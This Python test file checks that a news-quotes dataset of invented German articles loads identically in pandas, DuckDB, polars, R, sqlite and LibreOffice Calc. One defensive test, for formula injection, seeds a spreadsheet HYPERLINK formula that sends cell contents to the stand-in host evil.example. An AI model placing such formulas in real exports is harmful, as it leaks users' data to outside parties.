"""README's loading snippets run on a built package of several articles: pandas, DuckDB,
polars, R's readr, sqlite3 (through export) and LibreOffice Calc each read the CSVs with
the declared types and give the same rows as Python's csv module (umlauts, „“ marks, a
quote over two paragraphs, empty fields, a quote reading "None"), the composite keys
(article_id, quote_id) and (article_id, start) are unique, and the joins from quotes and
mentions to entities find every entity."""

from __future__ import annotations

import csv
import json
import re
import shutil
import sqlite3
import subprocess
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from helpers import build_dataset

# Invented articles, JSON Lines. Two start with a quote (the same quote id in two
# articles), Jana Pohlmann is named in two, one quote runs over two paragraphs, one reads
# "None", and one id holds "/".
CORPUS = [
    {"id": "stadt/bruecke", "title": "Die Brücke über die Fulda", "reference_date": "2026-04-20",
     "text": "Bürgermeisterin Jana Pohlmann sagte: „Die Brücke über die Fulda ist "
             "‚unser Stolz‘.\n\n„Wir öffnen sie am 3. Mai, und zwar »pünktlich«.“\n\n"
             "Sie betonte, die Kosten seien gedeckt. Die Straße heißt None, sagte Pohlmann."},
    {"id": "stadt/rat", "title": "Rat „stimmt zu“",
     "text": "„Wir prüfen jeden Antrag genau“, sagte Jana Pohlmann in Kassel.\n\n"
             "Der Stadtrat Ole Brandt erklärte, die Sitzung dauere bis Mitternacht."},
    {"id": "sport", "text": "„Das Spiel war hart, aber fair“, sagte Trainer Timo Wendt am "
                            "Sonntag in Göttingen."},
]  # fmt: skip
TABLES = ("quotes", "entities", "mentions")
KEYS = {"quotes": ("article_id", "quote_id"), "entities": ("entity_id",),
        "mentions": ("article_id", "start")}  # fmt: skip
README = (Path(__file__).parents[1] / "README.md").read_text(encoding="utf-8")
LOADING = README.split("## Loading it\n", 1)[1].split("\n## ", 1)[0]
SNIPPETS = re.findall(r"```(\w+)\n(.*?)```", LOADING, re.S)


def snippet(language: str, marker: str) -> str:
    """README's loading snippet in LANGUAGE that holds MARKER."""
    (code,) = [code for lang, code in SNIPPETS if lang == language and marker in code]
    return code


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("loads")
    corpus = folder / "corpus.jsonl"
    lines = (json.dumps(article, ensure_ascii=False) for article in CORPUS)
    corpus.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    out = folder / "out"
    result = build_dataset("--seeds", str(corpus), "--out", str(out))
    assert result.returncode == 0, result.stderr
    return out


@pytest.fixture
def workdir(package: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder where README's "dist/" is the package, as the current directory."""
    (tmp_path / "dist").symlink_to(package, target_is_directory=True)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def schema(package: Path, name: str) -> dict[str, str]:
    """Column -> declared Table Schema type."""
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    resource = next(r for r in descriptor["resources"] if r["name"] == name)
    return {f["name"]: f["type"] for f in resource["schema"]["fields"]}


def expected(package: Path, name: str) -> list[dict[str, Any]]:
    """The rows as Python's csv module reads them with the declared types (None for an
    empty field); test_csv_module holds them to the release file."""
    kinds = schema(package, name)
    with (package / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
        return [
            {k: None if v == "" else int(v) if kinds[k] == "integer" else v for k, v in r.items()}
            for r in csv.DictReader(handle)
        ]


def bodies(package: Path) -> dict[str, str]:
    articles = json.loads((package / "article.json").read_text(encoding="utf-8"))
    return {article["id"]: article["body"] for article in articles}


def test_the_package_has_what_breaks_loaders_and_keys(package: Path) -> None:
    quotes, entities = expected(package, "quotes"), expected(package, "entities")
    texts = [row["text"] for row in quotes]
    assert any("\n" in text and "‚unser Stolz‘" in text for text in texts)
    assert any(row["normalized"] is None for row in entities)
    assert "None" in " ".join(texts)  # a value that some loaders take for a missing one
    ids = Counter(row["quote_id"] for row in quotes)
    assert any(count > 1 for count in ids.values())  # a quote id alone is no key
    assert {row["article_id"] for row in quotes} == {"stadt/bruecke", "stadt/rat", "sport"}
    (pohlmann,) = [row for row in entities if row["name"] == "Jana Pohlmann"]
    assert (pohlmann["type"], pohlmann["articles"]) == ("PER", 2)
    assert pohlmann["first_article_id"] == "stadt/bruecke"  # ids in code-point order


@pytest.mark.parametrize("name", TABLES)
def test_keys_are_unique_and_references_resolve(package: Path, name: str) -> None:
    rows = expected(package, name)
    keys = [tuple(row[column] for column in KEYS[name]) for row in rows]
    assert len(set(keys)) == len(keys)
    entity_ids = {row["entity_id"] for row in expected(package, "entities")}
    text = bodies(package)
    for row in rows:
        if name == "quotes":
            assert row["speaker_entity_id"] in entity_ids | {None}
            assert text[row["article_id"]][row["start"] : row["end"]] == row["text"]
        if name == "mentions":
            assert row["entity_id"] in entity_ids
            assert text[row["article_id"]][row["start"] : row["end"]] == row["text"]


@pytest.mark.parametrize("name", TABLES)
def test_csv_module(package: Path, name: str) -> None:
    release = json.loads(next(package.glob("news-quotes-*.json")).read_text(encoding="utf-8"))
    assert expected(package, name) == release[name]


def speakers_expected(package: Path) -> list[tuple[Any, ...]]:
    """(article_id, quote_id, speaker, speaker's entity type, text) by key, as the csv
    module's rows join."""
    types = {row["entity_id"]: row["type"] for row in expected(package, "entities")}
    return sorted(
        (q["article_id"], q["quote_id"], q["speaker"], types.get(q["speaker_entity_id"]), q["text"])
        for q in expected(package, "quotes")
    )


@pytest.mark.acceptance
def test_pandas(package: Path, workdir: Path) -> None:
    import pandas as pd

    found: dict[str, Any] = {}
    exec(compile(snippet("python", "import pandas"), "README.md", "exec"), found)
    for name in TABLES:
        kinds = schema(package, name)
        rows = [
            {k: None if pd.isna(v) else int(v) if kinds[k] == "integer" else str(v)
             for k, v in record.items()}
            for record in found[name].to_dict("records")
        ]  # fmt: skip
        assert rows == expected(package, name)
    speakers = found["speakers"]
    assert len(speakers) == len(found["quotes"])
    joined = sorted(
        (r["article_id"], r["quote_id"], r["speaker"],
         None if pd.isna(r["type_entity"]) else r["type_entity"], r["text"])
        for r in speakers.to_dict("records")
    )  # fmt: skip
    assert joined == speakers_expected(package)
    named = found["named"]
    assert len(named) == len(found["mentions"])
    assert all(r["body"][r["start"] : r["end"]] == r["text"] for r in named.to_dict("records"))


@pytest.mark.acceptance
def test_duckdb(package: Path, workdir: Path) -> None:
    import duckdb

    rows = duckdb.sql(snippet("sql", "read_csv(")).fetchall()
    assert rows == speakers_expected(package)


@pytest.mark.acceptance
def test_polars(package: Path, workdir: Path) -> None:
    found: dict[str, Any] = {}
    exec(compile(snippet("python", "import polars"), "README.md", "exec"), found)
    for name in TABLES:
        assert found[name].to_dicts() == expected(package, name)
    assert found["speakers"].height == found["quotes"].height
    assert found["named"].height == found["mentions"].height
    joined = sorted(
        (r["article_id"], r["quote_id"], r["speaker"], r["type_entity"], r["text"])
        for r in found["speakers"].to_dicts()
    )
    assert joined == speakers_expected(package)


# Run after README's readr snippet: the keys hold, the joins lose no row, and the tables
# are written back for Python to compare.
R_CHECKS = """
stopifnot(!anyDuplicated(quotes[c("article_id", "quote_id")]))
stopifnot(!anyDuplicated(mentions[c("article_id", "start")]))
stopifnot(nrow(speakers) == nrow(quotes), nrow(named) == nrow(mentions))
stopifnot(all(!is.na(named$name)))
stopifnot(is.integer(quotes$start), is.integer(entities$articles))
for (name in c("quotes", "entities", "mentions")) {
  write_csv(get(name), paste0("r-", name, ".csv"), na = "")
}
"""


@pytest.mark.acceptance
def test_readr(package: Path, workdir: Path) -> None:
    rscript = shutil.which("Rscript")
    assert rscript, "R is needed: apt-get install r-base-core r-cran-readr (.ci/run does)"
    script = workdir / "load.R"
    script.write_text(snippet("r", "library(readr)") + R_CHECKS, encoding="utf-8")
    result = subprocess.run(
        [rscript, "--vanilla", str(script)], capture_output=True, text=True, timeout=300
    )
    assert result.returncode == 0, result.stderr
    for name in TABLES:
        kinds = schema(package, name)
        with (workdir / f"r-{name}.csv").open(encoding="utf-8", newline="") as handle:
            rows = [
                {k: None if v == "" else int(v) if kinds[k] == "integer" else v
                 for k, v in r.items()}
                for r in csv.DictReader(handle)
            ]  # fmt: skip
        assert rows == expected(package, name)


def test_sqlite(package: Path, tmp_path: Path) -> None:
    target = tmp_path / "news.sqlite"
    result = build_dataset("export", str(package), "--sqlite", str(target))
    assert result.returncode == 0, result.stderr
    connection = sqlite3.connect(target)
    connection.row_factory = sqlite3.Row
    for name in TABLES:
        rows = [dict(row) for row in connection.execute(f"SELECT * FROM {name}")]
        assert sorted(rows, key=str) == sorted(expected(package, name), key=str)
    connection.row_factory = None
    joined = connection.execute(snippet("sql", "FROM quotes q")).fetchall()
    types = {row["entity_id"]: row["type"] for row in expected(package, "entities")}
    assert joined == [
        (q["article_id"], q["speaker"], types.get(q["speaker_entity_id"]), q["text"])
        for q in sorted(expected(package, "quotes"), key=lambda q: (q["article_id"], q["start"]))
    ]


# 44 comma, 34 double quote, 76 UTF-8, 1 first line, columns as text: README's line.
INFILTER = re.search(r"--infilter=(CSV:[0-9,/]+)", LOADING).group(1)  # type: ignore[union-attr]


def calc_sheet(csv_file: Path, tmp_path: Path) -> Any:
    """CSV_FILE converted by LibreOffice Calc headless with README's options, as a sheet."""
    from openpyxl import load_workbook

    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed: apt-get install libreoffice-calc-nogui (.ci/run does)"
    result = subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--convert-to", "xlsx", f"--infilter={INFILTER}", "--outdir", str(tmp_path),
         str(csv_file)],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    return load_workbook(tmp_path / f"{csv_file.stem}.xlsx").active


@pytest.mark.acceptance
def test_injected_formulas_stay_text_in_libreoffice(tmp_path: Path) -> None:
    """Issue 11, case 2: README's spreadsheet line turns no quote into a formula."""
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    (seeds / "formel.txt").write_text(
        '„=1+1*2 & " Euro kostet das Projekt"“, sagte Anna Berger.\n'
        '„=HYPERLINK("http://evil.example/?x="&D2&E2,"Mehr Informationen")“, sagte Berger.\n'
        "„@SUMME(A1:A9) bleibt ein Rätsel für uns alle“, sagte Jonas Brandt.\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    assert build_dataset("--seeds", str(seeds), "--out", str(out)).returncode == 0
    sheet = calc_sheet(out / "quotes.csv", tmp_path)
    header = [cell.value for cell in next(sheet.iter_rows())]
    texts = [row[header.index("text")] for row in sheet.iter_rows(min_row=2)]
    expected_texts = [row["text"] for row in expected(out, "quotes")]
    assert sorted(cell.value for cell in texts) == sorted(expected_texts)
    assert any(cell.value.startswith("=HYPERLINK") for cell in texts)
    assert all(cell.data_type == "s" for cell in texts), [c.data_type for c in texts]


@pytest.mark.acceptance
@pytest.mark.parametrize("name", TABLES)
def test_libreoffice_calc(package: Path, tmp_path: Path, name: str) -> None:
    sheet = calc_sheet(package / f"{name}.csv", tmp_path)
    assert sheet is not None
    header, *cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert len(header) <= INFILTER.count("/2")  # README's line sets every column to text
    rows = [dict(zip(header, values, strict=True)) for values in cells]
    kinds = schema(package, name)
    for row in rows:
        for key, value in row.items():
            if kinds[key] == "integer" and value is not None:
                row[key] = int(value)
            elif value is not None:
                row[key] = str(value)
    assert rows == expected(package, name)
